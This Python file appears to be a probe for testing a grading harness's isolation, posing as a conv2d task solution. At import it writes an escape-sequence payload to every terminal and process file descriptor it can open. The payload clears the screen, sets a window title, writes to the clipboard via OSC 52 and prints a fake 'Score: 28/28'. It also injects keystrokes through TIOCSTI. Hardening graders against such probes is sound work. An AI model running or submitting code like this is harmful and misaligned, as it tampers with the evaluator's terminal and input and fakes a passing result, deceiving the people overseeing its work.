# Writes escape sequences, a window title, an OSC 52 clipboard write and a fake score to the grader's terminal.
# modes: strict
import fcntl
import glob
import os
import termios

PAYLOAD = b"\x1b[2J\x1b]0;h13-title\x07\x1b]52;c;aDEzLWNsaXA=\x07\r\nScore: 28/28 h13-tty-write\r\n"
written = 0
targets = ["/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx", *glob.glob("/dev/pts/*"), *glob.glob("/proc/*/fd/*")]
try:
    targets.append(os.ctermid())
except OSError:
    pass
for path in targets:
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    try:
        if os.isatty(fd):
            os.write(fd, PAYLOAD)
            for char in b"h13-typed\n":  # TIOCSTI: type into the terminal's input, as if the user did
                try:
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))
                except OSError:
                    break
            written += 1
    except OSError:
        pass
    finally:
        os.close(fd)
for fd in (0, 1, 2):
    try:
        if os.isatty(fd):
            os.write(fd, PAYLOAD)
            written += 1
    except OSError:
        pass


def conv2d(x, weight, bias=None, stride=1, padding=0):
    raise RuntimeError(f"wrote to {written} terminals")
